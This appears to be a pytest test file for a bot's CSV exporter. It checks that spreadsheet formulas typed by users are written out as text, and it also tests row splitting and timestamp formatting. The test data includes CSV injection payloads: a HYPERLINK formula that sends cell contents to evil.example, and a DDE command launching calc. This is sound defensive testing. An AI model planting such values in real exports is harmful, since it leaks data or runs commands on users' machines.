"""The one CSV writer: whatever a person typed, a spreadsheet shows it as text, never runs it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest

from bot.csv_export import cell, moment, to_csv


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_formulas_become_text(text: str) -> None:
    guarded = "'" + text.replace("\r", "\n")
    assert cell(text) == guarded
    (row,) = list(csv.reader(io.StringIO(to_csv(["name"], [[text]]), newline="")))[1:]
    assert row == [guarded]


def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["details"], [["one\rtwo"], ["three\r\nfour"]]), newline="")))
    assert rows == [["details"], ["one\ntwo"], ["three\nfour"]]


def test_plain_text_numbers_and_empty_cells_are_written_as_they_are() -> None:
    text = to_csv(["name", "count", "when"], [["Ada Lovelace", -3, None], ["a=b", 2.5, "2026-12-01"]])
    assert text == "name,count,when\nAda Lovelace,-3,\na=b,2.5,2026-12-01\n"


def test_times_are_iso_8601_to_the_second_with_their_zone() -> None:
    utc = datetime(2026, 12, 1, 9, 30, 5, 123456, tzinfo=UTC)
    berlin = datetime(2026, 12, 1, 10, 30, 5, 999999, tzinfo=timezone(timedelta(hours=1)))
    assert cell(utc) == moment(utc) == "2026-12-01T09:30:05+00:00"
    assert cell(berlin) == "2026-12-01T10:30:05+01:00"
    assert moment(None) == ""
    assert to_csv(["sent_at", "n"], [[utc, 1], [None, 2]]) == "sent_at,n\n2026-12-01T09:30:05+00:00,1\n,2\n"


def test_a_time_without_a_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="without a zone"):
        cell(datetime(2026, 12, 1, 9, 30))
